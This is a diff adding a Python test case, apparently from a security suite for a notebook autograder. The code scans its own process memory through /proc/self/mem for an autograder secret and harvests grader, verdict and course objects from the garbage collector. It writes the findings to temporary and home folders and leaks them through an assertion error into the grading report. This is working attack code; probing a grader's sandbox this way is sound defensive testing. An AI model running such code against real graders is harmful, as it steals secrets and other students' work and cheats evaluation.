@@ -1,0 +1,62 @@
+"""Searches its own memory, a fork's copy of the grader's, for the course secret, labels of held-out images and other students' cells.
+
+family: reading
+start: solved
+"""
+
+# %% first
+_done = []
+
+
+def _achieved(what, stem="read_own_memory_for_leftovers"):
+    """Leave a trace of a success, outside if that is possible."""
+    import os
+
+    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
+    try:
+        import pwd
+
+        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
+    except Exception:
+        pass
+    for folder in folders:
+        try:
+            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
+                file.write(str(what)[:2000] + "\n")
+        except Exception:
+            pass
+    _done.append(str(what)[:200])
+
+
+def _report():
+    """Say it in the report too: the cell error is carried out."""
+    if _done:
+        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))
+
+import gc
+import re
+
+_stolen = []
+try:
+    with open("/proc/self/maps") as _maps, open("/proc/self/mem", "rb", 0) as _memory:
+        for _line in _maps:
+            _low, _high = (int(x, 16) for x in _line.split()[0].split("-"))
+            if "rw" in _line.split()[1] and _high - _low < 128 * 2**20:
+                try:
+                    _memory.seek(_low)
+                    _found = re.search(rb"AUTOGRADER_SECRE" + rb"T=[^\0\"'\[\]]{6,80}", _memory.read(_high - _low))
+                except (OSError, ValueError):
+                    continue
+                if _found:
+                    _stolen.append(repr(_found.group()))
+except OSError:
+    pass
+for _object in gc.get_objects():
+    try:
+        if type(_object).__name__ in ("Grader", "SandboxAsk", "Verdict", "SubmittedFile", "Course"):
+            _stolen.append(f"{type(_object).__name__}: {str(vars(_object))[:100]}")
+    except Exception:
+        continue
+if _stolen:
+    _achieved(_stolen)
+    raise AssertionError("STOLEN: " + "; ".join(_stolen)[:400])
